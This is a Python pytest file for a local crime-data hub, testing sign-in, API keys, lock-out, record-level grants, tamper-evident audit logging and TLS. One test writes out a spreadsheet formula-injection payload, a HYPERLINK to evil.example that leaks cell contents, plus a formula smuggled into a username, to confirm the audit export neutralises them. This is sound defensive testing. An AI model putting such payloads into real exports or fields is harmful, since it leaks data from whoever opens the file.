"""Access control against the real hub on loopback: sign-in, roles, grants, lock-out, anonymous
access, record-level data, and the audit row every data response leaves."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import uuid

import pytest
import requests

from jin_hub import backends, db
from jin_hub.access import accounts, auditlog, settings
from tests.conftest import ADMIN, ANALYST, COUNCIL, snapshot_db
from tests.hub_locator import UNGUARD_AUDIT, dict_rows, fail_audit, last_audit_seq

DATA_PATHS = ["/api/v1/catalogue", "/api/v1/values/police_crime/lsoa", "/api/v1/boundaries/lsoa",
              "/collections", "/collections/police_crime_lsoa/items", "/api/v1/zones",
              "/api/v1/records/police_crime?purpose=testing%20access%20control"]
PUBLIC_PATHS = ["/", "/conformance", "/api/v1/version", "/openapi.json"]
PURPOSE = "Operation Autumn: criminal damage hot spots near schools"


def get(url: str, auth=ANALYST, **kw) -> requests.Response:
    return requests.get(url, timeout=30, auth=auth, **kw)


def audit_rows(db_path, after: int = 0) -> list[dict]:
    return dict_rows(db_path, "SELECT * FROM audit_log WHERE seq > ? ORDER BY seq", (after,))


@pytest.mark.parametrize("path", DATA_PATHS)
def test_data_needs_sign_in(hub_url, path):
    r = get(hub_url + path, auth=None)
    assert r.status_code == 401
    assert r.headers["www-authenticate"].startswith("Basic")
    assert "sign in" in r.json()["detail"]
    assert "rows" not in r.text and "features" not in r.text
    bad = get(hub_url + path, auth=(f"wrong.{uuid.uuid4().hex[:8]}", "not-a-password"))   # (no lock-out)
    assert bad.status_code == 401 and "not accepted" in bad.json()["detail"]


def test_programs_that_sign_in_themselves_get_no_basic_challenge(hub_url):
    """Qt (so QGIS) answers Basic, Digest, NTLM or Negotiate with its own credential prompt; a
    program saying X-Requested-With gets a challenge Qt leaves alone, everyone else Basic."""
    url = hub_url + "/api/v1/values/police_crime/lsoa"
    for auth, said in ((None, "sign in"), ((f"wrong.{uuid.uuid4().hex[:8]}", "not-a-password"), "not accepted")):
        program = get(url, auth=auth, headers={"X-Requested-With": "JiN QGIS plugin"})
        assert program.status_code == 401 and said in program.json()["detail"]
        assert program.headers["www-authenticate"].startswith("Bearer realm=")
        assert get(url, auth=auth).headers["www-authenticate"].startswith("Basic realm=")
    assert get(url, headers={"X-Requested-With": "JiN QGIS plugin"}).status_code == 200


@pytest.mark.parametrize("path", PUBLIC_PATHS)
def test_service_description_is_public(hub_url, path):
    assert get(hub_url + path, auth=None).status_code == 200


def test_api_keys(hub_url, hub_db_path):
    conn = db.connect(hub_db_path)
    key = accounts.create_api_key(conn, COUNCIL[0], "batch maps")
    url = f"{hub_url}/api/v1/values/fire_incidents/district"
    assert get(url, auth=None, headers={"Authorization": f"Bearer {key}"}).status_code == 200
    assert get(url, auth=None, headers={"X-API-Key": key}).status_code == 200
    forged = key[:-4] + ("AAAA" if not key.endswith("AAAA") else "BBBB")
    assert get(url, auth=None, headers={"X-API-Key": forged}).status_code == 401
    accounts.revoke_api_key(conn, key)
    r = get(url, auth=None, headers={"X-API-Key": key})
    assert r.status_code == 401 and "revoked" in r.json()["detail"]


def test_lock_out_after_repeated_failures(hub_url, hub_db_path):
    conn = db.connect(hub_db_path)
    accounts.add_user(conn, "lock.test", "city-council", "analyst", "the-right-password")
    url = f"{hub_url}/api/v1/catalogue"
    assert get(url, auth=("lock.test", "the-right-password")).status_code == 200
    codes = [get(url, auth=("lock.test", f"guess-{i}")).status_code for i in range(accounts.FREE_FAILURES)]
    assert codes == [401] * accounts.FREE_FAILURES
    locked = get(url, auth=("lock.test", "the-right-password"))       # even the right password waits
    assert locked.status_code == 429 and int(locked.headers["retry-after"]) > 0
    assert "try again" in locked.json()["detail"]
    # user names that do not exist lock the same way: the answer never says which names exist
    ghost = [get(url, auth=("no.such.user", "x")).status_code for _ in range(accounts.FREE_FAILURES + 1)]
    assert ghost[-1] == 429
    out = subprocess.run([sys.executable, "-m", "jin_hub", "--db", str(hub_db_path), "users", "unlock", "lock.test"],
                         capture_output=True, text=True, check=True)
    assert "unlocked" in out.stdout
    assert get(url, auth=("lock.test", "the-right-password")).status_code == 200


def test_disabled_user_is_refused(hub_url, hub_db_path):
    conn = db.connect(hub_db_path)
    accounts.add_user(conn, "leaver", "city-council", "analyst", "leaver-password-1")
    url = f"{hub_url}/api/v1/catalogue"
    assert get(url, auth=("leaver", "leaver-password-1")).status_code == 200     # (and now remembered)
    accounts.set_disabled(conn, "leaver", True)
    assert get(url, auth=("leaver", "leaver-password-1")).status_code == 401


def test_anonymous_access_is_the_admins_choice(hub_url, hub_db_path):
    conn = db.connect(hub_db_path)
    settings.set_anonymous(conn, True)
    try:
        cat = get(f"{hub_url}/api/v1/catalogue", auth=None).json()
        assert cat["you"] == {"user": None, "agency": None, "role": "public"}
        assert not any(d["records_granted"] for d in cat["datasets"])
        assert get(f"{hub_url}/api/v1/values/police_crime/lsoa", auth=None).status_code == 200
        r = get(f"{hub_url}/api/v1/records/police_crime", auth=None, params={"purpose": PURPOSE})
        assert r.status_code == 401 and "partner account" in r.json()["detail"]
        r = get(f"{hub_url}/api/v1/admin/audit", auth=None)
        assert r.status_code == 401
    finally:
        settings.set_anonymous(conn, False)
    assert get(f"{hub_url}/api/v1/catalogue", auth=None).status_code == 401


def test_records_only_for_granted_agencies(hub_url, hub_db_path, demo_extracts):
    url = f"{hub_url}/api/v1/records/police_crime"
    denied = get(url, auth=COUNCIL, params={"purpose": PURPOSE})
    assert denied.status_code == 403 and "no record-level grant" in denied.json()["detail"]
    assert "rows" not in denied.text
    assert get(url, auth=ADMIN, params={"purpose": PURPOSE}).status_code == 403     # admins need a grant too
    assert get(f"{hub_url}/api/v1/records/fire_incidents", params={"purpose": PURPOSE}).status_code == 403
    no_purpose = get(url)
    assert no_purpose.status_code == 422 and "purpose" in no_purpose.json()["detail"]
    assert get(url, params={"purpose": "because"}).status_code == 422                # too short to mean anything

    doc = get(url, params={"purpose": PURPOSE, "period": "2024-02", "category": "Burglary", "limit": 50}).json()
    assert doc["fields"][:2] == ["period", "category"] and "source_line" not in doc["fields"]
    assert 0 < doc["numberReturned"] <= 50 and doc["numberMatched"] >= doc["numberReturned"]
    assert all(r[0] == "2024-02" and r[1] == "Burglary" for r in doc["rows"])
    keys = doc["fields"].index("record_key"), doc["fields"].index("person_key")
    assert all(re.fullmatch(r"[0-9a-f]{20}", r[keys[0]]) for r in doc["rows"])
    cat = {d["id"]: d for d in get(f"{hub_url}/api/v1/catalogue").json()["datasets"]}
    assert cat["police_crime"]["records_granted"] and not cat["fire_incidents"]["records_granted"]

    # paging through CSV: every record of a month once, and no planted personal value anywhere
    query = {"purpose": PURPOSE, "period": "2024-03", "format": "csv", "limit": 500}
    seen, nxt = [], f"{url}?{requests.compat.urlencode(query)}"
    while nxt:
        r = get(nxt)
        assert r.headers["content-type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(r.text)))
        seen += rows
        link = r.headers.get("link", "")
        nxt = link[1:link.index(">")] if link else None
    assert len(seen) == int(r.headers["x-total-count"]) > 1000
    assert len({row["record_key"] for row in seen}) == len(seen)
    manifest = json.loads(demo_extracts["manifest"].read_text(encoding="utf-8"))["files"]
    planted = {v for values in manifest["police_crime"]["canaries"].values() for v in values}
    text = json.dumps(seen)
    assert not [v for v in planted if v in text]

    zone = get(url, params={"purpose": PURPOSE, "zone": "south-nottinghamshire-csp", "limit": 500}).json()
    district = zone["fields"].index("district_code")
    assert {r[district] for r in zone["rows"]} <= {"E07000172", "E07000173", "E07000176"}


def test_every_data_response_is_audited(hub_url, hub_db_path):
    start = last_audit_seq(hub_db_path)
    get(f"{hub_url}/api/v1/values/police_crime/msoa", params={"period": "2024"})
    get(f"{hub_url}/collections/asb_incidents_district/items", auth=COUNCIL, params={"limit": 3})
    get(f"{hub_url}/api/v1/records/police_crime", params={"purpose": PURPOSE, "limit": 7})
    get(f"{hub_url}/api/v1/records/police_crime", auth=COUNCIL, params={"purpose": PURPOSE})
    get(f"{hub_url}/api/v1/values/police_crime/lsoa", auth=None)
    get(f"{hub_url}/api/v1/values/police_crime/lsoa", auth=("mallory", "guess"))
    get(f"{hub_url}/api/v1/version")                                  # no data: not audited
    rows = audit_rows(hub_db_path, start)
    assert [(r["username"], r["agency"], r["endpoint"], r["dataset"], r["status"], r["rows"]) for r in rows] == [
        (ANALYST[0], "notts-police", "/api/v1/values/police_crime/msoa", "police_crime", 200, rows[0]["rows"]),
        (COUNCIL[0], "city-council", "/collections/asb_incidents_district/items", "asb_incidents", 200, 3),
        (ANALYST[0], "notts-police", "/api/v1/records/police_crime", "police_crime", 200, 7),
        (COUNCIL[0], "city-council", "/api/v1/records/police_crime", "police_crime", 403, 0),
        (None, None, "/api/v1/values/police_crime/lsoa", "police_crime", 401, 0),
        ("mallory", None, "/api/v1/values/police_crime/lsoa", "police_crime", 401, 0),
    ]
    assert rows[-1]["role"] == "refused"
    assert rows[0]["rows"] > 50 and json.loads(rows[0]["params"]) == {"period": "2024"}
    assert rows[2]["purpose"] == PURPOSE and rows[3]["purpose"] == PURPOSE
    assert all(r["client"] == "127.0.0.1" and r["at"] for r in rows)


def test_audit_log_is_append_only_and_tamper_evident(hub_url, hub_db_path, tmp_path):
    get(f"{hub_url}/api/v1/values/fire_incidents/lsoa")
    conn = db.connect(hub_db_path)
    for sql in ("UPDATE audit_log SET username = 'someone.else'", "DELETE FROM audit_log"):
        with pytest.raises(backends.errors(), match="append-only"):
            conn.execute(sql)
    n, broken = auditlog.verify(conn)
    assert n > 0 and broken == []
    # a copy edited behind the hub's back (triggers dropped) fails verification
    copy = snapshot_db(hub_db_path, tmp_path / "copy.sqlite")
    forged = db.connect(copy)
    with forged:
        forged.execute(UNGUARD_AUDIT[forged.kind])
        forged.execute("UPDATE audit_log SET rows = rows + 1 WHERE seq = 2")
    assert auditlog.verify(forged)[1] == [2]
    out = subprocess.run([sys.executable, "-m", "jin_hub", "--db", str(copy), "audit", "verify"],
                         capture_output=True, text=True)
    assert out.returncode == 2 and "chain broken at rows 2" in out.stderr


def test_audit_export_and_admin_endpoint(hub_url, hub_db_path, tmp_path):
    get(f"{hub_url}/api/v1/records/police_crime", params={"purpose": PURPOSE, "limit": 1})
    out = tmp_path / "audit.csv"
    subprocess.run([sys.executable, "-m", "jin_hub", "--db", str(hub_db_path), "audit", "export",
                    "--user", ANALYST[0], "--output", str(out)], check=True, capture_output=True)
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert rows and all(r["username"] == ANALYST[0] for r in rows)
    assert any(r["purpose"] == PURPOSE for r in rows)
    assert get(f"{hub_url}/api/v1/admin/audit").status_code == 403          # analysts may not read it
    doc = get(f"{hub_url}/api/v1/admin/audit", auth=ADMIN, params={"dataset": "police_crime", "limit": 5}).json()
    assert 0 < len(doc["entries"]) <= 5 and all(e["dataset"] == "police_crime" for e in doc["entries"])
    csv_text = get(f"{hub_url}/api/v1/admin/audit", auth=ADMIN, params={"format": "csv", "limit": 2}).text
    assert csv_text.splitlines()[0].startswith("seq,at,username")


def test_audit_failure_withholds_data(tmp_path, hub_db_path):
    """If the audit row cannot be written, the data is not sent; and no row says the client got
    what it did not: the row is written before the response goes out, and when the first write
    fails, the row the log then takes says 503."""
    from jin_hub.local_server import start_hub

    copy = snapshot_db(hub_db_path, tmp_path / "hub.sqlite")
    url = "/api/v1/values/police_crime/district"
    with start_hub(copy) as hub:
        assert get(hub.url + url).status_code == 200
        blocker = db.connect(copy)
        with blocker:
            blocker.executescript(fail_audit(blocker.kind, 200))
        start = last_audit_seq(copy)
        r = get(hub.url + url)
        assert r.status_code == 503 and "audit log" in r.json()["detail"]
        assert "rows" not in r.text
        assert [(row["endpoint"], row["status"], row["rows"]) for row in audit_rows(copy, start)] == [(url, 503, 0)]
        with blocker:
            blocker.executescript(fail_audit(blocker.kind))
        assert get(hub.url + url).status_code == 503
        assert len(audit_rows(copy, start)) == 1                     # nothing could be logged: no row at all


def test_audit_export_neutralises_spreadsheet_formulas(hub_url, hub_db_path, tmp_path):
    """User names and parameters come from callers: exported, they must not run as formulas."""
    formula = "=HYPERLINK(\"http://evil.example/\"&A1)"
    get(f"{hub_url}/api/v1/values/police_crime/lsoa", auth=("@SUM(1+1)", "x"), params={"period": formula})
    start = last_audit_seq(hub_db_path) - 1
    out = tmp_path / "audit.csv"
    subprocess.run([sys.executable, "-m", "jin_hub", "--db", str(hub_db_path), "audit", "export",
                    "--since", "2000-01-01", "--output", str(out)], check=True, capture_output=True)
    exported = [r for r in csv.DictReader(out.open(encoding="utf-8")) if int(r["seq"]) > start]
    assert [(r["username"], json.loads(r["params"])) for r in exported] == [("'@SUM(1+1)", {"period": formula})]
    admin = get(f"{hub_url}/api/v1/admin/audit", auth=ADMIN, params={"format": "csv", "limit": 3}).text
    assert ",'@SUM(1+1)," in admin and ",@SUM(1+1)," not in admin


def test_signed_in_replies_are_not_cached_for_others(hub_url):
    items = get(f"{hub_url}/collections/police_crime_lsoa/items", params={"limit": 2})
    assert items.headers["cache-control"] == "private, no-store" and "Authorization" in items.headers["vary"]
    bounds = get(f"{hub_url}/api/v1/boundaries/district")
    assert bounds.headers["cache-control"] == "private, no-cache" and bounds.headers["etag"]
    again = get(f"{hub_url}/api/v1/boundaries/district", auth=None, headers={"If-None-Match": bounds.headers["etag"]})
    assert again.status_code == 401                          # revalidation checks who asks


def test_https_serving(tmp_path, hub_db_path):
    """``serve --tls-cert/--tls-key``: Basic credentials travel over TLS.

    (The plugin's side, an untrusted and then trusted certificate, is tests/plugin/test_tls.py.)"""
    from jin_hub.local_server import start_hub

    cert, key = tmp_path / "hub.pem", tmp_path / "hub.key"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj",
                    "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1", "-keyout", str(key),
                    "-out", str(cert)], check=True, capture_output=True)
    with start_hub(snapshot_db(hub_db_path, tmp_path / "hub.sqlite"), tls=(cert, key)) as hub:
        assert hub.url.startswith("https://")
        r = requests.get(f"{hub.url}/api/v1/catalogue", auth=ANALYST, verify=str(cert), timeout=30)
        assert r.status_code == 200 and r.json()["you"]["user"] == ANALYST[0]
        with pytest.raises(requests.exceptions.SSLError):
            requests.get(f"{hub.url}/api/v1/version", timeout=30)          # untrusted without the CA
